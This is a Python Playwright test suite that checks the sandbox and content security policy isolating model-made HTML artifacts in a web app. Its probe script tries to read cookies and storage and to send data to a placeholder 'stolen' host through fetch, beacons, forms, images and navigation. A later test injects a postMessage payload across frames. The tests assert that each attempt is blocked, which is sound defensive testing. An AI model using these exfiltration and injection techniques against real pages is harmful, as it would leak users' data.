"""What a model made runs in the artifact's frame, and reaches nothing but the message to its page."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, Response
from serving import running, says

from openk2.server.artifact import CONTENT_SECURITY_POLICY

PROBE = """<!doctype html><h1>Artifact</h1><img id="data" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<style>h1 { color: rgb(1, 2, 3) }</style>
<script>
const found = {};
const attempt = async (name, act) => {
  const patience = new Promise((end) => setTimeout(() => end("no answer"), 3000));
  try { found[name] = String(await Promise.race([act(), patience])); } catch { found[name] = "blocked"; }
};
(async () => {
  await attempt("script", () => 6 * 7);
  await attempt("style", () => getComputedStyle(document.querySelector("h1")).color);
  await attempt("origin", () => self.origin);
  await attempt("parent page", () => parent.document.title);
  await attempt("local storage", () => localStorage.length);
  await attempt("session storage", () => sessionStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("databases", () => new Promise((done, fail) => {
    const asked = indexedDB.open("openk2"); asked.onsuccess = () => done("opened"); asked.onerror = fail;
  }));
  await attempt("caches", () => caches.keys());
  await attempt("worker", () => navigator.serviceWorker.register("/app.js"));
  await attempt("own server", () => fetch("SERVER/health").then((answer) => answer.status));
  await attempt("no-cors", () => fetch("SERVER/health", { mode: "no-cors" }).then(() => "sent"));
  await attempt("foreign server", () => fetch("FOREIGN/stolen").then((answer) => answer.status));
  await attempt("beacon", () => navigator.sendBeacon("FOREIGN/stolen", "x") ? "queued" : "refused");
  await attempt("image", () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done("loaded"); image.onerror = fail; image.src = "FOREIGN/stolen.png";
  }));
  await attempt("script file", () => new Promise((done, fail) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded"); script.onerror = fail; script.src = "SERVER/app.js";
    document.body.append(script);
  }));
  await attempt("eval", () => eval("1 + 1"));
  await attempt("window", () => window.open("FOREIGN/stolen") === null ? "none" : "opened");
  await attempt("top", () => { top.location = "FOREIGN/stolen"; return "left"; });
  await attempt("form", () => {
    const form = document.createElement("form");
    form.action = "FOREIGN/stolen"; form.method = "post"; form.target = "_top"; document.body.append(form);
    form.submit(); return "submitted";
  });
  await attempt("frame", () => new Promise((done, fail) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { done(frame.contentDocument ? "own" : "opaque"); } catch (error) { fail(error); } };
    frame.src = "SERVER/"; document.body.append(frame);
  }));
  parent.postMessage({ found }, "*");
  location.href = "FOREIGN/leaked?" + encodeURIComponent(document.title);
})();
</script>"""

FRAME = """([html, base]) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  addEventListener("message", ({ source, data }) => {
    if (source !== frame.contentWindow) return;
    if (data.type === "openk2:artifact-ready") frame.contentWindow.postMessage({ type: "openk2:artifact", html }, "*");
    if (data.found) setTimeout(() => done(data.found), 500);
  });
  frame.src = base + "artifact";
  document.body.append(frame);
})"""


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with running(says("yes")) as address:
        yield address


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Without the watch for violations of the policy: they are what these tests are about."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(30_000)
    yield page
    context.close()


def test_the_shell_has_exactly_its_policy(address: str) -> None:
    answer = httpx.get(f"{address}/artifact")
    assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert CONTENT_SECURITY_POLICY == (
        "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; "
        "img-src data: blob:"
    )
    page = httpx.get(address).headers["content-security-policy"]
    assert "frame-src 'self'" in page
    assert "default-src 'none'" in page
    assert "unsafe-inline" not in page.replace("style-src-attr 'unsafe-inline'", "")


@contextmanager
def foreign_site() -> Iterator[tuple[str, list[str]]]:
    """A site on another port, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_an_artifact_runs_and_reaches_nothing(page: Page, address: str) -> None:
    answered: list[str] = []

    def note(response: Response) -> None:
        if response.frame != page.main_frame:
            answered.append(response.url)

    page.on("response", note)
    with foreign_site() as (foreign, asked):
        page.goto(address)
        page.evaluate("localStorage.setItem('secret', 'of the page'); document.cookie = 'secret=of-the-page'")
        assert (
            page.evaluate(f"fetch('{foreign}/', {{mode: 'no-cors'}}).then(() => 'sent', () => 'blocked')") == "blocked"
        )
        html = PROBE.replace("SERVER", address).replace("FOREIGN", foreign)
        found: dict[str, Any] = page.evaluate(FRAME, [html, f"{address}/"])
        assert page.url.startswith(address), "the artifact sent the page elsewhere"
        assert asked == []
    assert answered == [f"{address}/artifact"]
    works = {"script": "42", "style": "rgb(1, 2, 3)", "origin": "null"}
    assert {name: found.pop(name) for name in works} == works
    harmless = {
        "beacon": {"queued", "refused", "blocked"},
        "form": {"submitted", "blocked"},
        "window": {"none", "blocked"},
        "frame": {"blocked", "no answer", "opaque"},
    }
    for name, outcomes in harmless.items():
        assert found.pop(name) in outcomes, name
    assert set(found.values()) == {"blocked"}, json.dumps(found, indent=1)


def test_an_artifact_opened_by_its_address_has_an_origin_of_its_own(page: Page, address: str) -> None:
    page.goto(address)
    page.evaluate("localStorage.setItem('secret', 'of the page')")
    page.goto(f"{address}/artifact")
    assert page.evaluate("self.origin") == "null"
    stolen = "(() => { try { return localStorage.getItem('secret'); } catch { return 'blocked'; } })()"
    assert page.evaluate(stolen) == "blocked"


def test_only_its_parent_hands_the_shell_a_document(page: Page, address: str) -> None:
    page.goto(address)
    shown = page.evaluate(
        """(base) => new Promise((done) => {
          const frame = document.createElement("iframe"), other = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          other.setAttribute("sandbox", "allow-scripts");
          frame.name = "shown";
          const said = [];
          addEventListener("message", ({ source, data }) => {
            if (data.said) said.push(data.said);
            if (source === frame.contentWindow && data.type === "openk2:artifact-ready") other.src = base + "artifact";
            if (source === other.contentWindow && data.type === "openk2:artifact-ready") {
              const tell = (what) => `<script>parent.postMessage({said: "${what}"}, "*")<` + "/script>";
              const sent = { type: "openk2:artifact", html: tell("injected") };
              const inject = JSON.stringify(sent).replaceAll("<", "\\\\u003c");
              const html = "<script>for (let i = 0; i < parent.length; i++) parent[i].postMessage(" + inject +
                ", '*'); parent.postMessage({said: 'tried'}, '*')<" + "/script>";
              other.contentWindow.postMessage({ type: "openk2:artifact", html }, "*");
            }
            if (data.said === "tried") setTimeout(() => done(said), 500);
          });
          frame.src = base + "artifact";
          document.body.append(frame, other);
        })""",
        f"{address}/",
    )
    assert shown == ["tried"]
